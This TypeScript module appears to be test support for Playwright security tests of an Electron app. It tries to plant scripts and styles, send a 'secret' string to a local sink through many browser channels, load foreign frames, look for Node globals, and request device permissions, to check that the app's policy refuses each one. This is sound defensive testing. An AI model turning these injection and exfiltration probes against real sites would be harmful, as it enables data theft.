/**
 * What a script planted in a page would try. Each function runs inside the page, so it uses nothing but its arguments and
 * what a page has. Playwright lets text be compiled while it evaluates; every probe therefore waits for a task of its own.
 */

export type Outcome = {
  /** `directive` of each violation the page was told of. */
  violations: string[]
  /** Names of the attacks that got what they wanted. */
  succeeded: string[]
}

/** Code and styles that did not come from our origin as a file. */
export async function plantCode(): Promise<Outcome> {
  const violations: string[] = []
  const ran = new Set<string>()
  const note = (event: SecurityPolicyViolationEvent): void => void violations.push(event.effectiveDirective)
  document.addEventListener('securitypolicyviolation', note)
  Object.assign(globalThis, { planted: (name: string) => ran.add(name) })
  const task = (): Promise<void> => new Promise((done) => setTimeout(done, 50))
  const attempt = async (work: () => unknown): Promise<void> => {
    await task()
    try {
      await work()
    } catch {
      // Refused with an exception; whether anything ran is what counts.
    }
  }
  const script = (fill: (element: HTMLScriptElement) => void) => (): void => {
    const element = document.createElement('script')
    fill(element)
    document.body.append(element)
  }

  await attempt(script((element) => (element.textContent = 'planted("inline script")')))
  await attempt(script((element) => element.append('planted("script from a text node")')))
  await attempt(script((element) => (element.src = 'data:text/javascript,planted("script from data")')))
  await attempt(script((element) => (element.src = URL.createObjectURL(new Blob(['planted("script from blob")'])))))
  await attempt(() => {
    const image = document.createElement('img')
    image.setAttribute('onerror', 'planted("event attribute")')
    image.src = '/nothing.png'
    document.body.append(image)
  })
  await attempt(() => {
    document.body.insertAdjacentHTML('beforeend', '<img src="/nothing.png" onerror=\'planted("inserted HTML")\'>')
  })
  await attempt(() => {
    document.createElement('p').innerHTML = '<b>planted</b>'
    ran.add('innerHTML')
  })
  await attempt(() => {
    const parsed: unknown = new DOMParser().parseFromString('<b>planted</b>', 'text/html')
    if (parsed instanceof Document) ran.add('DOMParser')
  })
  await attempt(() => {
    const { trustedTypes } = globalThis as unknown as { trustedTypes: { createPolicy: (name: string, rules: object) => unknown } }
    trustedTypes.createPolicy('planted', { createHTML: (text: string) => text })
    ran.add('policy of its own')
  })
  // oxlint-disable-next-line no-eval, typescript/no-implied-eval -- the very thing that must be refused
  await attempt(() => setTimeout('planted("text in a timer")'))
  // oxlint-disable-next-line no-eval -- as above
  await attempt(() => globalThis.eval('planted("eval")'))
  await attempt(() => {
    // oxlint-disable-next-line no-new-func, typescript/no-implied-eval -- as above
    const made = new Function('planted("new Function")') as () => void
    made()
  })
  await attempt(() => location.assign('javascript:planted("javascript: address")'))
  await attempt(() => {
    const style = document.createElement('style')
    style.textContent = 'body { --planted-element: yes }'
    document.head.append(style)
    document.body.setAttribute('style', '--planted-attribute: yes')
    const computed = getComputedStyle(document.body)
    if (computed.getPropertyValue('--planted-element') !== '') ran.add('style element')
    if (computed.getPropertyValue('--planted-attribute') !== '') ran.add('style attribute')
  })
  await attempt(() => {
    const base = document.createElement('base')
    base.href = 'https://elsewhere.invalid/'
    document.head.append(base)
    if (document.baseURI.includes('elsewhere')) ran.add('base')
    base.remove()
  })
  await attempt(async () => {
    await navigator.serviceWorker.register('/assets/worker.js')
    ran.add('service worker')
  })
  await attempt(() => {
    const worker = new Worker(URL.createObjectURL(new Blob([''])))
    worker.addEventListener('message', () => ran.add('worker'))
  })
  await task()
  await task()
  document.removeEventListener('securitypolicyviolation', note)
  return { violations: [...new Set(violations)], succeeded: [...ran] }
}

/** Everything that would carry data to another place. `sink` is an origin such as `127.0.0.1:4711`. */
export async function sendAway(sink: string): Promise<Outcome> {
  const violations: string[] = []
  const succeeded: string[] = []
  const note = (event: SecurityPolicyViolationEvent): void => void violations.push(event.effectiveDirective)
  document.addEventListener('securitypolicyviolation', note)
  const task = (ms = 20): Promise<void> => new Promise((done) => setTimeout(done, ms))
  const reached = async (name: string, work: () => Promise<unknown>): Promise<void> => {
    await task()
    try {
      await work()
      succeeded.push(name)
    } catch {
      // Refused, as it must be.
    }
  }
  const element = (tag: string, attributes: Record<string, string>) => (): Promise<unknown> => {
    const made = document.createElement(tag)
    const settled = new Promise((resolve, reject) => {
      made.addEventListener('load', resolve)
      made.addEventListener('error', () => reject(new Error(tag)))
      setTimeout(() => reject(new Error('nothing')), 400)
    })
    for (const [name, value] of Object.entries(attributes)) made.setAttribute(name, value)
    document.body.append(made)
    return settled
  }
  const url = `http://${sink}/taken?words=secret`

  await reached('fetch', () => fetch(url, { mode: 'no-cors' }))
  await reached('XMLHttpRequest', () => {
    return new Promise((resolve, reject) => {
      const request = new XMLHttpRequest()
      request.addEventListener('load', resolve)
      request.addEventListener('error', () => reject(new Error('xhr')))
      request.open('GET', url)
      request.send()
    })
  })
  const opens = (source: EventTarget): Promise<unknown> =>
    new Promise((resolve, reject) => {
      source.addEventListener('open', resolve)
      source.addEventListener('error', () => reject(new Error('closed')))
    })
  await reached('WebSocket', () => opens(new WebSocket(`ws://${sink}/taken`)))
  await reached('EventSource', () => opens(new EventSource(url)))
  await task()
  navigator.sendBeacon(url, 'secret')
  await reached('img', element('img', { src: url }))
  await reached('file share', element('img', { src: String.raw`\\elsewhere.invalid\share\picture.png` }))
  await reached('video', element('video', { src: url, preload: 'auto' }))
  await reached('stylesheet', element('link', { rel: 'stylesheet', href: url }))
  await reached('prefetch', element('link', { rel: 'prefetch', href: url }))
  await reached('script', () => import(/* @vite-ignore */ url))
  const form = document.createElement('form')
  Object.assign(form, { action: url, method: 'post' })
  document.body.append(form)
  await task()
  form.submit()
  await task()
  document.body.style.backgroundImage = `url("${url}&by=style")`
  await task(200)
  document.removeEventListener('securitypolicyviolation', note)
  return { violations: [...new Set(violations)], succeeded }
}

/** Frames of other documents: none may load, and none has the bridge or anything of Node. */
export async function openFrames(sink: string): Promise<Outcome & { globals: string[] }> {
  const violations: string[] = []
  const succeeded: string[] = []
  const note = (event: SecurityPolicyViolationEvent): void => void violations.push(event.effectiveDirective)
  document.addEventListener('securitypolicyviolation', note)
  const url = `http://${sink}/frame`
  for (const [tag, attribute] of [
    ['iframe', 'src'],
    ['object', 'data'],
    ['embed', 'src'],
    ['webview', 'src'],
  ] as const) {
    const made = document.createElement(tag)
    try {
      made.setAttribute(attribute, url)
    } catch {
      // Some of them take typed addresses only.
    }
    document.body.append(made)
  }
  const own = document.createElement('iframe')
  own.src = '/index.html'
  document.body.append(own)
  const empty = document.createElement('iframe')
  document.body.append(empty)
  await new Promise((done) => setTimeout(done, 500))
  // A frame that was refused shows an error page of another origin, whose document is out of reach.
  if (own.contentDocument?.getElementById('root') instanceof HTMLElement) succeeded.push('own page')
  const inside: object = empty.contentWindow ?? {}
  const globals = ['require', 'process', 'module', 'Buffer', 'ipcRenderer', 'electron', 'holdfast'].filter((name) => name in inside)
  document.removeEventListener('securitypolicyviolation', note)
  return { violations: [...new Set(violations)], succeeded, globals }
}

/** Names of the page's world that no empty frame of the same browser has. */
export function ownGlobals(): string[] {
  const frame = document.createElement('iframe')
  document.body.append(frame)
  const plain = new Set(frame.contentWindow === null ? [] : Object.getOwnPropertyNames(frame.contentWindow))
  frame.remove()
  return Object.getOwnPropertyNames(globalThis).filter((name) => !plain.has(name))
}

/** What the browser grants when it is asked for everything a page may ask for. */
export async function askPermissions(): Promise<{ granted: string[]; got: string[] }> {
  const names =
    'geolocation notifications push midi camera microphone background-sync background-fetch clipboard-read idle-detection ' +
    'payment-handler storage-access window-management local-fonts display-capture nfc periodic-background-sync ' +
    'persistent-storage clipboard-write'
  const granted: string[] = []
  for (const name of names.split(' ')) {
    const descriptor = { name, ...(name === 'push' ? { userVisibleOnly: true } : {}), ...(name === 'midi' ? { sysex: true } : {}) }
    try {
      const { state } = await navigator.permissions.query(descriptor as unknown as PermissionDescriptor)
      if (state === 'granted') granted.push(name)
    } catch {
      // Unknown to this browser: there is nothing to grant.
    }
  }
  const got: string[] = []
  const attempt = async (name: string, work: () => Promise<unknown>): Promise<void> => {
    // A question nobody will ever answer gives nothing either.
    const limit = new Promise((_resolve, reject) => setTimeout(() => reject(new Error('no answer')), 1_000))
    try {
      const answer = await Promise.race([work(), limit])
      if (!Array.isArray(answer) || answer.length > 0) got.push(name)
    } catch {
      // Denied.
    }
  }
  const device = (api: string): unknown => (navigator as unknown as Record<string, unknown>)[api]
  const request = (api: string, method: string, argument: object) => (): Promise<unknown> => {
    const found = device(api) as Record<string, (argument: object) => Promise<unknown>> | undefined
    return found?.[method]?.(argument) ?? Promise.reject(new Error('absent'))
  }
  await attempt('position', () => new Promise((resolve, reject) => navigator.geolocation.getCurrentPosition(resolve, reject)))
  await attempt('notification', async () => {
    if ((await Notification.requestPermission()) !== 'granted') throw new Error('denied')
  })
  await attempt('camera', () => navigator.mediaDevices.getUserMedia({ video: true }))
  await attempt('microphone', () => navigator.mediaDevices.getUserMedia({ audio: true }))
  await attempt('screen', () => navigator.mediaDevices.getDisplayMedia())
  await attempt('clipboard', () => navigator.clipboard.readText())
  await attempt('midi', () => navigator.requestMIDIAccess({ sysex: true }))
  await attempt('usb', request('usb', 'requestDevice', { filters: [] }))
  await attempt('hid', request('hid', 'requestDevice', { filters: [] }))
  await attempt('serial', request('serial', 'requestPort', {}))
  await attempt('bluetooth', request('bluetooth', 'requestDevice', { acceptAllDevices: true }))
  return { granted, got }
}
